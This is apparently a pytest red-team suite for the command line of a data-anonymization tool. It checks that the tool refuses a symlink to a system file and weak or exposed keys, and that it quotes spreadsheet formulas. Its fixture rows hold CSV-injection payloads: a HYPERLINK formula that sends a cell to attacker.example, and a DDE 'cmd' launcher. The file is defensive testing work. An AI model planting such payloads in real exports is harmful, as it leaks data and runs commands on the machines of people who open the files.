"""Red team, through the real command line: hostile input folders, weak or exposed keys,
spreadsheet formulas. Each attack once got through; each must keep failing to.

(The engine-level tests of the same promises live with their modules; see the README's
Reliability table.)
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from anonymizers.certify.attest import verify_run
from flows.cli.app import app

runner = CliRunner()

TICKETS = [
    ["ticket_id", "customer_email", "balance", "comment"],
    ["T-1001", "ingrid.halvorsen@example.no", "-12.5", "=HYPERLINK(\"http://attacker.example/?\"&B2)"],
    ["T-1002", "rafael.mendes@example.com.br", "+3", "+cmd|' /C calc'!A0"],
    ["T-1003", "amara.okafor@example.ng", "40.00", "Parcel arrived, thanks"],
]  # fmt: skip


def _bundle(folder: Path) -> Path:
    folder.mkdir(parents=True)
    with (folder / "tickets.csv").open("w", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(TICKETS)
    return folder


def _one_line(stderr: str) -> str:
    errors = [line for line in stderr.splitlines() if line.startswith("safeset: error:")]
    assert len(errors) == 1 and "Traceback" not in stderr, stderr
    return errors[0]


def test_a_symlink_to_a_system_file_is_refused_not_read(tmp_path: Path) -> None:
    """/etc/os-release once went through a symlink into the quarantined output."""
    export = _bundle(tmp_path / "export")
    (export / "os-release.csv").symlink_to("/etc/os-release")
    result = runner.invoke(app, ["plan", str(export), "-o", str(tmp_path / "plan.yaml")])
    assert result.exit_code == 2
    line = _one_line(result.stderr)
    assert "os-release.csv: a symbolic link" in line
    assert not (tmp_path / "plan.yaml").exists()


@pytest.mark.slow
@pytest.mark.parametrize("key", ["00" * 32, "ab" * 32])
def test_a_run_with_a_weak_key_is_refused_without_echo(
    prefect_server: None, safeset_home: Path, tmp_path: Path, monkeypatch, key: str
) -> None:
    monkeypatch.setenv("SAFESET_PSEUDONYM_KEY", key)
    result = runner.invoke(app, ["run", str(_bundle(tmp_path / "export")), "--out",
                                 str(tmp_path / "out")])  # fmt: skip
    assert result.exit_code == 2
    assert "not random" in _one_line(result.stderr)
    assert key[:8] not in result.stderr + result.stdout
    assert not (tmp_path / "out" / "export").exists()


@pytest.mark.slow
def test_a_run_with_a_key_file_others_can_read_is_refused(
    prefect_server: None, safeset_home: Path, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.delenv("SAFESET_PSEUDONYM_KEY", raising=False)
    key_file = tmp_path / "vault" / "hr.key"
    key_file.parent.mkdir()
    key_file.write_text((safeset_home / "keys" / "pseudonym.key").read_text())
    key_file.chmod(0o644)
    config = tmp_path / "policy.yaml"
    config.write_text(f"keys:\n  pseudonym_key_file: {key_file}\n")
    result = runner.invoke(app, ["run", str(_bundle(tmp_path / "export")), "--out",
                                 str(tmp_path / "out"), "--config", str(config)])  # fmt: skip
    assert result.exit_code == 2
    assert "mode 0644" in _one_line(result.stderr)


@pytest.mark.slow
@pytest.mark.model
def test_formulas_are_quoted_in_a_certified_run_that_still_verifies(
    prefect_server: None, safeset_home: Path, tmp_path: Path, monkeypatch
) -> None:
    """The gate compares output with input: the quote must not make it reject, and the
    signed digests are those of the files as written (with the quote)."""
    monkeypatch.delenv("SAFESET_PSEUDONYM_KEY", raising=False)
    result = runner.invoke(app, ["run", str(_bundle(tmp_path / "export")), "--out",
                                 str(tmp_path / "out"), "--dataset", "support"])  # fmt: skip
    assert result.exit_code == 0, result.stderr
    run_dir = Path(result.stdout.strip().splitlines()[-1])
    rows = list(csv.reader((run_dir / "data" / "tickets.csv").open(newline="")))
    assert rows[1][2] == "-12.5"  # a number: as it was
    assert rows[1][3].startswith("'=HYPERLINK(")  # the URL inside is faked too
    assert rows[2][2:] == ["+3", "'+cmd|' /C calc'!A0"]
    assert "ingrid.halvorsen@example.no" not in (run_dir / "data" / "tickets.csv").read_text()
    manifest = json.loads((run_dir / "manifest.json").read_text())
    assert manifest["csv_formulas"] == {"policy": "quote", "cells": {"tickets": 2}}
    assert "Spreadsheet formulas" in (run_dir / "report.md").read_text()
    assert verify_run(run_dir, safeset_home / "trusted_keys.json").ok
